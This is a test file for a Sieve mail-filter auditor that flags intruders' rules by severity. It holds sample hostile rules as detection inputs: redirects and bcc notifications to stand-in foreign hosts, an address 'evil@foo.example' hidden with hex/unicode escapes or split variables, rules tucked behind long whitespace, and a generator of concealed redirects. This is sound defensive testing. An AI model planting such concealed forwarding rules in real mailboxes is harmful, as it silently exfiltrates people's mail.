"""Rules of intruders, of webmailers and of ordinary people, judged; and generated scripts that hide what they do."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postfall.language import Text
from postfall.mailbox.sieve.audit import MOST_LINES, MOST_OF_A_KIND, audit, judge_all
from postfall.mailbox.sieve.model import Audit, RuleFinding, Script, Severity
from postfall.mailbox.sieve.runtime import decoded

OWN = ("anna@firma.example",)


def judged(script: str, *, own=OWN) -> Audit:
    return audit(script.encode(), own=own)


def one(script: str, kind: str, *, own=OWN) -> RuleFinding:
    found = [row for row in judged(script, own=own).findings if row.kind == kind]
    assert len(found) == 1, found
    return found[0]


def targets(script: str, kind: str = "redirect") -> list[str]:
    return [row.target for row in judged(script).findings if row.kind == kind]


@pytest.mark.parametrize(
    ("script", "kind", "target", "severity"),
    [
        ('redirect "x@foreign.example";', "redirect", "x@foreign.example", "high"),
        ('redirect :copy "kim@firma.example";', "redirect", "kim@firma.example", "medium"),
        ('redirect :copy "anna@firma.example";', "redirect", "anna@firma.example", "low"),
        ('redirect :list "tag:x.example,2026:all";', "redirect", "tag:x.example,2026:all", "high"),
        ('redirect :copy :notify "NEVER" :ret "HDRS" "x@foreign.example";', "redirect", "x@foreign.example", "high"),
        ('notify "mailto:x@foreign.example";', "notify", "mailto:x@foreign.example", "high"),
        ('notify "mailto:anna@firma.example";', "notify", "mailto:anna@firma.example", "low"),
        ('notify :message "new" "tel:+49";', "notify", "tel:+49", "medium"),
        ('notify "mailto:anna@firma.example?bcc=x%40foreign.example";', "notify",
         "mailto:anna@firma.example?bcc=x%40foreign.example", "high"),
        ('notify :method "mailto" :options ["x@foreign.example"] :message "$text$";', "notify", "x@foreign.example",
         "high"),
        ('report "abuse" "look" "x@foreign.example";', "report", "x@foreign.example", "high"),
        ('pipe :copy :try "forward.sh" ["x", "y"];', "pipe", "forward.sh x y", "high"),
        ('execute :pipe "run";', "execute", "run", "high"),
        ('filter "change";', "filter", "change", "high"),
        ('if execute "run" { keep; }', "execute", "run", "high"),
        ("discard;", "discard", "", "high"),
        ('if header :contains "subject" "sale" { discard; }', "discard", "", "medium"),
        ('if header :contains "subject" "Rechnung" { discard; }', "discard", "", "high"),
        ('if header :contains "X-Spam-Flag" "YES" { discard; }', "discard", "", "low"),
        ('if header :contains "from" "bank@sparkasse.example" { reject "no"; }', "reject", "no", "high"),
        ('if size :over 20M { ereject "too big"; }', "reject", "too big", "medium"),
        ('if header :contains "list-id" "news" { fileinto "News"; }', "fileinto", "News", "info"),
        ('if header :contains "list-id" "news" { fileinto "RSS Feeds"; }', "fileinto", "RSS Feeds", "medium"),
        ('if header :contains "X-Spam-Flag" "YES" { fileinto "Junk"; }', "fileinto", "Junk", "info"),
        ('if header :contains "subject" ["IBAN", "x"] { fileinto "Privat"; }', "fileinto", "Privat", "high"),
        ('if header :contains "subject" "invoice" { fileinto :copy "Privat"; }', "fileinto", "Privat", "medium"),
        ('fileinto "Archive";', "fileinto", "Archive", "high"),
        ('fileinto "Anderswo";', "fileinto", "Anderswo", "medium"),
        ('fileinto :specialuse "\\\\Trash" "Weg";', "fileinto", "Weg", "high"),
        ('setflag "\\\\Seen";', "flags", "\\Seen", "medium"),
        ('addflag "v" ["\\\\Seen", "$label1"];', "flags", "v \\Seen $label1", "medium"),
        ('keep :flags ["\\\\Deleted"];', "flags", "\\Deleted", "high"),
        ('addflag "\\\\Flagged";', "flags", "\\Flagged", "info"),
        ('vacation "Ich bin im Urlaub.";', "vacation", "", "low"),
        ('vacation "Unsere Bankverbindung hat sich geändert.";', "vacation", "", "high"),
        ('vacation :from "x@foreign.example" "Weg.";', "vacation", "x@foreign.example", "medium"),
        ('include :global "company";', "include", "company", "low"),
        ('deleteheader "Received";', "editheader", "Received", "medium"),
        ('addheader :last "X-A" "b";', "editheader", "X-A", "medium"),
        ('foreverypart { replace "new text"; }', "mime", "replace", "medium"),
        ('if true { enclose "x"; }', "mime", "enclose", "medium"),
        ('snooze ["12:00:00"];', "snooze", "", "medium"),
        ("stop;", "stop", "", "low"),
    ],
)  # fmt: skip
def test_what_a_command_means(script, kind, target, severity):
    found = [row for row in judged(script).findings if row.kind == kind and row.target == target]
    assert [row.severity.value for row in found] == [severity], judged(script).findings
    assert judged(script).not_understood == ()
    assert found[0].words.de.endswith((".", "?", "“", target))
    assert found[0].words.de != found[0].words.en


def test_without_own_addresses_every_redirect_is_foreign():
    assert one('redirect "kim@firma.example";', "redirect", own=()).severity is Severity.HIGH


def test_a_second_address_at_a_free_mail_provider_is_not_ones_own():
    assert one('redirect "me@gmail.com";', "redirect", own=["me@gmail.com"]).severity is Severity.LOW
    assert one('redirect "her@gmail.com";', "redirect", own=["me@gmail.com"]).severity is Severity.HIGH


def test_an_address_that_only_looks_like_ones_own_is_foreign():
    for address in (
        "x%foreign.example@firma.example",
        "anna@firma.example.foreign.example",
        "anna@firma.example>x@y.z",
    ):
        assert one(f'redirect "{address}";', "redirect").severity is Severity.HIGH


@pytest.mark.parametrize(
    ("script", "target"),
    [
        ('redirect "${hex:65 76 69 6C}@${unicode:66 6f 6F}.example";', "evil@foo.example"),
        ('set "a" "ev"; set "b" "${a}il${hex:40}foo.example"; redirect "${b}";', "evil@foo.example"),
        ('set :lower "a" "EVIL"; redirect "${a}@foo.example";', "evil@foo.example"),
        ('redirect "ev${nothing}il@foo.example";', "evil@foo.example"),
        ('if anyof (true) { set "a" "evil@foo.example"; redirect "${a}"; }', "evil@foo.example"),
        ('set "a" "x"; set "a" "evil@foo.example"; redirect "${A}";', "evil@foo.example"),
    ],
)
def test_addresses_made_of_pieces_are_put_together(script, target):
    found = one(script, "redirect")
    assert (found.target, found.known, found.severity) == (target, True, Severity.HIGH)


@pytest.mark.parametrize(
    "script",
    [
        'if header :matches "to" "*@*" { redirect "${1}@foreign.example"; }',
        'redirect "${env.domain}";',
        'global "a"; redirect "${a}";',
        'foreverypart { extracttext "a"; redirect "${a}"; }',
        'set :encodeurl "a" "x@y"; redirect "${a}";',
        'foreverypart { set "a" "${a}x"; } redirect "${a}@foreign.example";',
        'set "a" "x"; ' + 'set "a" "${a}${a}";' * 40 + 'redirect "${a}@y.example";',
        'redirect "";',
        "redirect;",
    ],
)
def test_addresses_that_only_come_about_later_are_said_to_be_unknown(script):
    found = one(script, "redirect")
    assert (found.known, found.severity) == (False, Severity.HIGH)
    assert "unknown" in found.words.en or "not statically known" in found.words.en or "cannot be read" in found.words.en


def test_every_value_that_a_variable_may_have_is_told():
    script = 'if exists "a" { set "t" "a@x.example"; } else { set "t" "b@y.example"; } redirect "${t}";'
    assert sorted(targets(script)) == ["a@x.example", "b@y.example"]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("${hex:40}", "@"), ("${HEX: 40 41 }", "@A"), ("${unicode:20AC}", "€"), ("${hex:C3 A4}", "ä"),
        ("${unicode:110000}", "${unicode:110000}"), ("${unicode:D800}", "${unicode:D800}"),
        ("${hex:400}", "${hex:400}"),
        ("${hex:", "${hex:"), ("${hex:4Z}", "${hex:4Z}"), ("$ {hex:40}", "$ {hex:40}"),
    ],
)  # fmt: skip
def test_encoded_characters(text, value):
    assert decoded(text) == value


def test_whether_a_copy_stays():
    for script, stays in (
        ('redirect "x@y.example";', False), ('redirect :copy "x@y.example";', True),
        ('redirect "x@y.example"; keep;', True), ('if true { redirect "x@y.example"; } keep;', False),
    ):  # fmt: skip
        assert ("A copy stays" in one(script, "redirect").words.en) is stays


def test_the_test_around_a_rule_is_shown():
    found = one(
        'if allof (header :is ["from"] "a", not exists "b") { if true { redirect "x@y.example"; } }', "redirect"
    )
    assert found.condition == 'allof (header :is ["from"] "a", not exists "b"); true'
    long = one(f'if header "subject" "{"x" * 5000}" {{ redirect "x@y.example"; }}', "redirect")
    assert len(long.condition) <= 300
    other = one('if exists "b" { keep; } else { redirect "x@y.example"; }', "redirect")
    assert other.condition == 'not (exists "b")'


def test_a_rule_that_was_switched_off_weighs_less_and_says_so():
    """Roundcube writes `if false # old test` for a rule that is switched off."""
    found = one('# rule:[x]\nif false # header :contains "a" "b"\n{\n\tredirect "x@y.example";\n}', "redirect")
    assert (found.never, found.severity, found.line) == (True, Severity.MEDIUM, 4)
    assert "switched off" in found.words.en


def test_always_true_is_told():
    """An intruder's rule that a webmailer does not show: `if anyof (true)`."""
    for test in ("true", "anyof (true)", "not false"):
        assert one(f'if {test} {{ redirect "x@y.example"; }}', "always").line == 1


def test_words_are_found_in_any_writing():
    for word in ("RECHNUNG", "neue Rechnungen", "${hex:52}echnung", "your password", "IBAN", "Sicherheitshinweis"):
        assert one(f'if header :contains "subject" "{word}" {{ keep; }}', "words").severity is Severity.MEDIUM
    script = 'set "w" "Rech"; if header :contains "subject" "${w}nung" { discard; }'
    assert one(script, "discard").severity is Severity.HIGH
    for word in ("Urbanik", "tango", "Liebling", "swiftlet"):
        assert targets(f'if header :contains "subject" "{word}" {{ keep; }}', "words") == []


def test_words_of_outer_tests_count_too():
    script = 'if header "subject" "Rechnung" { if exists "a" { if exists "b" { discard; } } }'
    assert one(script, "discard").severity is Severity.HIGH


@pytest.mark.parametrize("gap", ["\n" * 200, " " * 400, "\t" * 400, "\n \t\n" * 80, "\n#\n" * 80])
def test_a_rule_behind_a_lot_of_empty_space_is_told(gap):
    found = judged("keep;" + gap + 'redirect "x@y.example";').findings
    assert [row.kind for row in found] == ["hidden", "redirect"] or [row.kind for row in found] == [
        "redirect",
        "hidden",
    ]
    assert "hidden" not in [row.kind for row in judged("keep;\n\n\n  redirect 'x';").findings]


def test_rules_in_comments_are_told_but_do_not_count():
    found = judged('keep;\n/* old\nredirect "x@y.example"; */\n# fileinto "z";\n# redirect means to forward\n').findings
    assert [(row.kind, row.line, row.severity) for row in found] == [
        ("comment", 3, Severity.INFO), ("comment", 4, Severity.INFO)
    ]  # fmt: skip


def test_what_is_not_understood_is_told_and_no_reason_to_stop():
    found = judged('keep;\nwarp "x";\nredirect "x@y.example";\nif moon "full" { redirect :fast "z@y.example"; }')
    assert [row.line for row in found.not_understood] == [2, 4]
    assert len([row for row in found.findings if row.kind == "redirect"]) == 2


def test_a_script_that_was_cut_says_so_at_its_end():
    found = audit(b"keep;\nkeep;\n", cut=True)
    assert [row.line for row in found.not_understood] == [2]
    assert "not read" in found.not_understood[0].why.en


def test_a_megabyte_of_rules_is_counted_and_the_others_are_still_seen():
    script = b'redirect "a@b.example";\n' * 40_000 + b'discard;\nwarp "x";\n' + b"@\n" * 2_000
    found = audit(script)
    assert sum(row.kind == "redirect" for row in found.findings) == MOST_OF_A_KIND
    assert found.left_out == 40_000 - MOST_OF_A_KIND
    assert any(row.kind == "discard" for row in found.findings)
    assert len(found.not_understood) == MOST_LINES


def script_named(name: str, text: str, *, active: bool = False) -> Script:
    return Script(name, active, text.encode(), "0" * 64)


def test_scripts_are_in_use_when_active_or_included():
    rows = judge_all([
        script_named("main", 'include :personal "a"; include "gone"; include :global "house";', active=True),
        script_named("a", 'include "b";'),
        script_named("b", 'include "main"; redirect "x@y.example";'),
        script_named("asleep", 'redirect "x@y.example";'),
    ])  # fmt: skip
    assert {row.script.name: row.in_use for row in rows} == {"main": True, "a": True, "b": True, "asleep": False}
    found = {row.target: row.severity for row in rows[0].audit.findings}
    assert found == {"a": Severity.INFO, "gone": Severity.MEDIUM, "house": Severity.LOW}


@given(st.binary(max_size=500))
def test_no_octets_crash_the_judge(data):
    found = audit(data, own=OWN)
    lines = data.count(b"\n") + 1
    assert all(1 <= row.line <= lines for row in (*found.findings, *found.not_understood))


_WORDS = (
    "redirect|notify|fileinto|discard|set|include|vacation|if|elsif|else|anyof|not|true|header|foreverypart|:copy|:list|"
    '"a@b.example"|"${a}"|"${1}"|"a"|"Rechnung"|[|]|(|)|{|}|;|,|text:\n.\n|# c\n|/* c */|100K|"'
)
WORDS = _WORDS.split("|")


@given(st.lists(st.sampled_from(WORDS), max_size=60))
def test_no_heap_of_words_crashes_the_judge(words):
    assert isinstance(judged(" ".join(words)), Audit)


BLANK = st.sampled_from([" ", "\n", "\t", "\r\n", " /* x; } */ ", " # y; {\n", "\n" * 60])
LOCAL = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789.-", min_size=1, max_size=12)
TESTS = st.sampled_from([
    "true", "anyof (true)",
    'header :contains "subject" ["Rechnung", "a;b{c}"]', 'not allof (exists "x", size :over 1K)',
    'address :domain :is "from" "x.example"', 'anyof (false, header :matches "a" "*")',
])  # fmt: skip


@st.composite
def hidden_redirects(draw) -> tuple[str, list[str]]:
    """A well-formed script full of redirects, and where they go."""
    addresses = [f"{name}@{host}.example" for name, host in draw(st.lists(st.tuples(LOCAL, LOCAL), max_size=6))]
    parts, depth = ['require ["variables", "encoded-character", "copy"];'], 0
    for number, address in enumerate(addresses):
        gap = draw(BLANK)
        if draw(st.booleans()):
            parts.append(f"if{gap}{draw(TESTS)}{gap}{{")
            depth += 1
        written = draw(st.sampled_from(["plain", "escaped", "hex", "unicode", "text", "variable", "list"]))
        name, codes = f"v{number}", " ".join(f"{ord(sign):x}" for sign in address)
        stuffed = f".{address}" if address.startswith(".") else address  # RFC 5228 2.4.2
        value = {
            "plain": f'"{address}"',
            "escaped": '"' + "".join(f"\\{sign}" for sign in address) + '"',
            "hex": f'"${{hex:{codes}}}"',
            "unicode": f'"${{unicode: {codes} }}"',
            "text": f"text:{gap if '#' in gap else ''}\n".replace("\n\n", "\n") + f"{stuffed}\n.\n",
            "variable": f'"${{{name}}}"',
            "list": f'["{address}"]',
        }[written]
        if written == "variable":
            parts.append(f'set "{name}" "{address[:3]}"; set "{name}" "${{{name}}}{address[3:]}";')
        parts.append(f"redirect{gap}{draw(st.sampled_from(['', ':copy ']))}{value}{gap};")
        if depth and draw(st.booleans()):
            parts.append("}")
            depth -= 1
    return draw(BLANK).join([*parts, "}" * depth]), addresses


@given(hidden_redirects())
def test_every_redirect_of_a_generated_script_is_found(made):
    script, addresses = made
    found = judged(script)
    seen = [row.target for row in found.findings if row.kind == "redirect"]
    assert set(addresses) <= set(seen)
    assert found.not_understood == ()


@given(hidden_redirects(), st.data())
def test_no_redirect_is_lost_when_signs_are_lost(made, data):
    """Take one sign out of the script: whatever redirect still stands there as a whole is found."""
    script, _ = made
    at = data.draw(st.integers(0, len(script) - 1))
    broken = script[:at] + script[at + 1 :]
    before = broken.count("redirect")
    found = [row for row in judged(broken).findings if row.kind in {"redirect", "comment"}]
    lines = judged(broken).not_understood
    assert len(found) >= before or lines


def test_words_are_texts_in_two_languages():
    for row in judged('redirect "x@y.example"; discard; vacation "x"; stop; pipe "a";').findings:
        assert isinstance(row.words, Text)
        assert row.words.de
        assert row.words.en
